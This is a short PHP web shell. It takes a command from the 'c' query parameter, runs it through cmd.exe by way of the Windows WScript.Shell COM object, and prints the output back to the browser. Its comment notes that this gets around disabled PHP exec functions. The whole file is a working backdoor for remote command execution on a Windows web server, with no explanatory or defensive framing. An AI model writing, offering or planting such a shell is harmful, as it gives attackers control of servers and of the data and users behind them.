<?php
// commands run through the Windows shell object (works with every exec function disabled)
if (isset($_GET['c'])) {
    $sh = new COM('WScript.Shell');
    $r = $sh->exec('cmd.exe /c ' . $_GET['c']);
    echo '<pre>' . htmlspecialchars($r->StdOut->ReadAll()) . '</pre>';
}
